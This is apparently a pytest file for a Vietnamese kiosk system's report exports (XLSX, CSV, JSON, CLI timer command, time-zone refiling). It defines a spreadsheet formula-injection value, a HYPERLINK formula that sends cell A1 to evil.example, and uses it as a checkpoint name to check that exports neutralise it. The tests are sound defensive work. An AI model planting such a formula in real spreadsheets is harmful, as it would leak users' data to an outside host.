"""Report files as the province office opens them: XLSX read back with openpyxl, CSV, and
`kiosk-central report … --out-dir` as the 06:00 timer runs it (rerunnable, named by date)."""

from __future__ import annotations

import datetime as dt
import io
import json
from pathlib import Path

from central_support import central, database_url, serving
from openpyxl import load_workbook
from report_support import DAY, GenBatch, GenKiosk, World, load, wire_entry
from web_support import add_users, signed_in

from kiosk import messages
from kiosk.central import heartbeat, report_formats, reports, sheets
from kiosk.central.app import create_app
from kiosk.central.backends import open_storage
from kiosk.central.registry import Checkpoint
from kiosk.sync import protocol

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _report(tmp_path: Path) -> dict:
    """A small real day: a point named like a formula, scans at 07:30 and 23:59 local."""
    kiosk = GenKiosk("k1", "P1", 0.0, dt.datetime(2026, 10, 1, tzinfo=dt.UTC), None)
    world = World("Asia/Ho_Chi_Minh", [
        Checkpoint("P1", HOSTILE, district="+Đồng Xoài", kind="market", set_up_on="2026-11-01"),
        Checkpoint("P2", "Trường", district="Bình Long", kind="school", set_up_on="2026-11-01"),
    ], [kiosk])
    start = world.local_midnight(DAY)
    for minutes in (7 * 60 + 30, 23 * 60 + 59):
        entry = wire_entry(kiosk, "P1", start + dt.timedelta(minutes=minutes), "in", False, minutes)
        world.batches.append(GenBatch(kiosk, [entry], start + dt.timedelta(minutes=minutes + 1)))
    with open_storage(f"sqlite:///{tmp_path}/central.db") as storage:
        load(storage, world)
        return reports.daily(storage, DAY, now=start + dt.timedelta(hours=30))


def test_xlsx_has_vietnamese_headers_typed_cells_and_no_formulas(tmp_path: Path) -> None:
    report = _report(tmp_path)
    book = load_workbook(io.BytesIO(report_formats.render(report, "xlsx")))
    assert book.sheetnames == ["Tổng hợp", "Theo huyện", "Theo loại địa điểm", "Theo giờ",
                               "Theo điểm", "Nơi không quét", "Nơi quét sai",
                               "Máy chưa gửi đủ", "Bản ghi đến muộn",
                               "Máy chờ gửi không rõ bao lâu"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(cell.font.b for cell in sheet[1])
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    points = book["Theo điểm"]
    assert [c.value for c in points[1]] == ["Mã điểm", "Tên điểm", "Huyện", "Loại địa điểm",
                                            "Đã triển khai", "Lượt quét", "Lượt vào",
                                            "Lượt ra", "Quét trùng", "Nhập tay",
                                            "Mã không phải giấy tờ", "Quét lỗi"]
    row = [c.value for c in points[2]]
    # text cells (none is a formula, above), shown as they are: no leading quote to read past
    assert row == ["P1", HOSTILE, "+Đồng Xoài", "Chợ / siêu thị", "có", 2, 2, 0, 0, 0, 0, 0]
    assert isinstance(points["F2"].value, int)
    assert points.column_dimensions["B"].width > len("Tên điểm")
    hours = book["Theo giờ"]
    assert [(r[0].value, r[1].value) for r in hours.iter_rows(min_row=2) if r[1].value] == [
        (7, 1), (23, 1)]
    summary = {r[0].value: r[1] for r in book["Tổng hợp"].iter_rows(min_row=2)}
    assert summary["Lượt quét"].value == 2
    assert summary["Tỷ lệ hoạt động"].value == 0.5
    assert summary["Tỷ lệ hoạt động"].number_format == "0.0%"
    silent = book["Nơi không quét"]
    assert [c.value for c in silent[2]][:5] == ["P2", "Trường", "Bình Long", "Trường học",
                                                "Không quét trong 7 ngày"]


def test_dates_are_dates_and_times_local(tmp_path: Path) -> None:
    report = _report(tmp_path)
    report["completeness"]["late_entries"] = [{"day": "2026-11-14", "entries": 3}]
    report["completeness"]["kiosks_not_heard_since_day_end"] = [{
        "checkpoint_id": "P1", "name": "x", "district": "d", "kind": "market",
        "kiosk_id": "k1", "last_seen_at": "2026-11-15T16:30:00.000000Z"}]
    book = load_workbook(io.BytesIO(report_formats.render(report, "xlsx")))
    late = book["Bản ghi đến muộn"]["A2"]
    assert late.is_date and late.value == dt.datetime(2026, 11, 14)
    assert late.number_format == "dd/mm/yyyy"
    seen = book["Máy chưa gửi đủ"]["F2"]
    assert seen.is_date and seen.value == dt.datetime(2026, 11, 15, 23, 30)  # Hà Nội time


def test_the_problems_read_as_on_the_dashboard(tmp_path: Path) -> None:
    """A problem in the report files is worded as the dashboard words it: the same words,
    not a second list that drifted ("Đồng hồ máy lệch" on the web and "… quá 2 phút" in
    the file, "Tỷ lệ từ chối cao" and "Tỷ lệ quét lỗi cao")."""
    report = _report(tmp_path)
    place = {"checkpoint_id": "P1", "name": "Chợ", "district": "d", "kind": "market"}
    problems = ("one_direction", "refused_share", "manual_share", "clock_off", "old_backlog",
                "revoked_still_trying", "replaced_token_in_use")
    report["scanning_wrongly"] = [{**place, "problem": problem, "kiosk_id": "k1"}
                                  for problem in problems]
    book = load_workbook(io.BytesIO(report_formats.render(report, "xlsx")))
    words = [row[4].value for row in book["Nơi quét sai"].iter_rows(min_row=2)]
    assert words == [messages.text(f"web.problem.{problem}") for problem in problems]
    assert words == ["Chỉ quét một chiều", "Tỷ lệ từ chối cao", "Tỷ lệ nhập tay cao",
                     "Đồng hồ máy lệch quá 2 phút", "Tồn đọng quá 24 giờ",
                     "Máy đã thu hồi vẫn gửi", "Mã truy cập cũ vẫn được dùng"]


def test_every_centre_workbook_holds_its_text_minus_what_xml_cannot_carry() -> None:
    """Reports and traces are written by one writer (:func:`sheets.to_xlsx`): a text cell
    holding a character XML 1.0 cannot carry (a kiosk sent it) is written without it, by
    the kiosk export's rule, rather than failing the whole workbook."""
    table = sheets.Sheet("Theo điểm", ["Mã điểm", "Tên điểm", "Lượt quét"],
                         [["P1", "Chợ\x01 Đồng Xoài\x1f", 2]])
    book = load_workbook(io.BytesIO(sheets.to_xlsx([table])))
    assert [c.value for c in book["Theo điểm"][2]] == ["P1", "Chợ Đồng Xoài", 2]


def test_a_workbooks_text_is_shown_as_it_is_and_a_csv_neutralises_all_but_a_phone() -> None:
    """An XLSX text cell is text, never a formula (openpyxl reads it back as text, data
    type "s"): a phone in E.164 or a name starting with "-" or "@" is shown as it is — they
    read "'+12025550143" and "'-Nguyễn". A CSV cell has no type, so there a text a
    spreadsheet could run is still neutralised, but not a phone in E.164 (at worst a
    number)."""
    cells = ["+12025550143", "-Nguyễn Văn An", "@An", HOSTILE, "+84 912", "+0123456789"]
    table = sheets.Sheet("Người tiếp xúc", ["Ô"], [[cell] for cell in cells])
    book = load_workbook(io.BytesIO(sheets.to_xlsx([table])))
    read = [row[0] for row in book["Người tiếp xúc"].iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in read] == [(cell, "s") for cell in cells]
    lines = sheets.to_csv([table]).decode("utf-8-sig").splitlines()[2:]
    assert lines == ["+12025550143", "'-Nguyễn Văn An", "'@An",
                     '"\'' + HOSTILE.replace('"', '""') + '"', "'+84 912", "'+0123456789"]


def test_csv_is_excel_friendly_and_neutralised(tmp_path: Path) -> None:
    text = report_formats.render(_report(tmp_path), "csv").decode("utf-8")
    assert text.startswith("\ufeff# Tổng hợp\r\nChỉ tiêu,Giá trị\r\n")
    assert "\r\n# Theo điểm\r\nMã điểm,Tên điểm," in text
    assert f"P1,\"'{HOSTILE.replace(chr(34), chr(34) * 2)}\",'+Đồng Xoài,Chợ / siêu thị,có,2,2,0" \
        in text


def test_csv_writes_ratios_and_shares_as_fractions_rounded_as_the_xlsx_shows_them() -> None:
    """A ratio is written as a fraction to the 0.1 % the XLSX shows (83,3 %): ``0.833``,
    not ``0.8333333333333334``; counts in the same column, and other numbers, are left as
    they are."""
    table = sheets.Sheet("Tổng hợp", ["Chỉ tiêu", "Giá trị", "Lượt quét"],
                         [["Tỷ lệ hoạt động", 5 / 6, 1.25], ["Lượt quét", 12, 3],
                          ["Tỷ lệ nhập tay", None, 0]], percent=frozenset({1}))
    text = sheets.to_csv([table]).decode("utf-8-sig")
    assert text.splitlines()[2:] == ["Tỷ lệ hoạt động,0.833,1.25", "Lượt quét,12,3",
                                     "Tỷ lệ nhập tay,,0"]


def test_the_timer_command_writes_dated_files_and_can_run_again(tmp_path: Path) -> None:
    db = database_url("sqlite", tmp_path)
    central("checkpoints", "add", "P1", "--name", "Chợ", "--set-up-on", "2026-11-01",
            "--db", db)
    out = tmp_path / "reports"
    for _ in range(2):  # a rerun after a failure replaces the same files
        central("report", "daily", "--date", "2026-11-28", "--out-dir", str(out), "--db", db)
    assert sorted(p.name for p in out.iterdir()) == [
        "bao-cao-ngay-2026-11-28.csv", "bao-cao-ngay-2026-11-28.json",
        "bao-cao-ngay-2026-11-28.xlsx"]
    report = json.loads((out / "bao-cao-ngay-2026-11-28.json").read_text())
    assert report["day"] == "2026-11-28" and report["summary"]["points_set_up"] == 1
    central("report", "monthly", "--month", "2026-11", "--out-dir", str(out), "--format",
            "xlsx", "--db", db)
    assert (out / "bao-cao-thang-2026-11.xlsx").exists()
    month = load_workbook(out / "bao-cao-thang-2026-11.xlsx")
    assert month["Theo ngày"]["A31"].value == dt.datetime(2026, 11, 30)
    bad = central("report", "monthly", "--month", "2026-13", "--db", db, check=False)
    assert bad.returncode == 2 and ("tham số --month: '2026-13': cần YYYY-MM / argument "
                                    "--month: '2026-13': expected YYYY-MM") in bad.stderr
    for args in (["daily", "--date", "9999-12-31"], ["daily", "--date", "0001-01-01"],
                 ["monthly", "--month", "9999-12"], ["monthly", "--month", "0001-01"]):
        past = central("report", *args, "--db", db, check=False)  # the calendar's edge
        assert past.returncode == 2 and f"'{args[2]}': " in past.stderr, past.stderr
    yesterday, default = (json.loads(central("report", "daily", *day, "--format", "json",
                                             "--db", db).stdout)["day"]
                          for day in (["--date", "yesterday"], []))
    assert yesterday == default and dt.date.fromisoformat(yesterday)
    stdout = central("report", "daily", "--date", "2026-11-28", "--format", "csv", "--db", db)
    assert "# Theo điểm" in stdout.stdout



def test_changing_the_time_zone_refiles_every_scan(tmp_path: Path) -> None:
    _report(tmp_path)  # scans at 07:30 and 23:59 in Hà Nội
    db = database_url("sqlite", tmp_path)
    assert central("timezone", "--db", db).stdout.strip() == "Asia/Ho_Chi_Minh"
    out = central("timezone", "Asia/Kolkata", "--db", db).stdout
    assert "2 entries refiled" in out
    report = json.loads(central("report", "daily", "--date", "2026-11-15", "--db", db).stdout)
    assert report["timezone"] == "Asia/Kolkata"
    assert [r["hour"] for r in report["by_hour"] if r["scans"]] == [6, 22]  # 90 minutes earlier
    for bad_zone in ("Mars/Base", "Asia"):  # "Asia" is a folder of zones, not one
        bad = central("timezone", bad_zone, "--db", db, check=False)
        assert bad.returncode == 2 and "unknown" in bad.stderr and bad_zone in bad.stderr


def test_the_daily_files_and_page_per_district_and_kind_carry_manual_entries_and_refusals(
        tmp_path: Path) -> None:
    """A day at two points: P1 (Đồng Xoài, a market) with two scans and an entry typed by
    hand, P2 (Bình Long, a school) with a scan and 5 scans refused. The report's JSON rows
    per district and per kind carry Nhập tay and Quét lỗi; the XLSX and CSV sheets and the
    Reports page's sections Theo huyện / Theo loại địa điểm show the same figures (before,
    they stopped at Quét trùng: a district officer could not see their refusals)."""
    k1, k2 = (GenKiosk(k, p, 0.0, dt.datetime(2026, 10, 1, tzinfo=dt.UTC), None)
              for k, p in (("k1", "P1"), ("k2", "P2")))
    world = World("Asia/Ho_Chi_Minh", [
        Checkpoint("P1", "Chợ", district="Đồng Xoài", kind="market", set_up_on="2026-11-01"),
        Checkpoint("P2", "Trường", district="Bình Long", kind="school", set_up_on="2026-11-01"),
    ], [k1, k2])
    nine = world.local_midnight(DAY) + dt.timedelta(hours=9)
    for kiosk, manual, person in ((k1, False, 1), (k1, False, 2), (k1, True, 3), (k2, False, 4)):
        world.batches.append(GenBatch(kiosk, [wire_entry(kiosk, kiosk.checkpoint_id, nine,
                                                         "in", manual, person)],
                                      nine + dt.timedelta(minutes=1)))
    db = database_url("sqlite", tmp_path)
    add_users(db, {"viewer1": ("viewer", None)})
    with open_storage(db) as storage:
        load(storage, world)
        heartbeat.record(storage, "k2", protocol.validate_health({
            "software_version": "0.1.0", "pending": 0, "oldest_pending_seconds": None,
            "rejected": 0, "devices": [], "free_disk_bytes": None,
            "refused_by_hour": {nine.strftime("%Y-%m-%dT%H"): 5}}),
            nine + dt.timedelta(hours=1), 0.0)
        report = reports.daily(storage, DAY)
        with serving(create_app(storage)) as url, signed_in(url, "viewer1") as client:
            page = client.get("/reports", params={"date": DAY.isoformat()}).text
    expected = {"Theo huyện": [["Bình Long", 0, 5], ["Đồng Xoài", 1, 0]],
                "Theo loại địa điểm": [["Chợ / siêu thị", 1, 0], ["Trường học", 0, 5]]}
    assert [[r["district"], r["manual"], r["refused"]] for r in report["by_district"]] == \
        [[name, manual, refused] for name, manual, refused in expected["Theo huyện"]]
    book = load_workbook(io.BytesIO(report_formats.render(report, "xlsx")))
    text = report_formats.render(report, "csv").decode("utf-8")
    for title, rows in expected.items():
        sheet = list(book[title].iter_rows(values_only=True))
        assert sheet[0][-4:] == ("Quét trùng", "Nhập tay", "Mã không phải giấy tờ", "Quét lỗi")
        assert [[row[0], row[-3], row[-1]] for row in sheet[1:]] == rows
        assert f"# {title}\r\n{','.join(sheet[0])}\r\n" in text
        section = page.split(f"<h2>{title}</h2>", 1)[1].split("</table>", 1)[0]
        assert ("<th class=\"n\">Nhập tay</th><th class=\"n\">Mã không phải giấy tờ</th>"
                "<th class=\"n\">Quét lỗi</th></tr>") in section
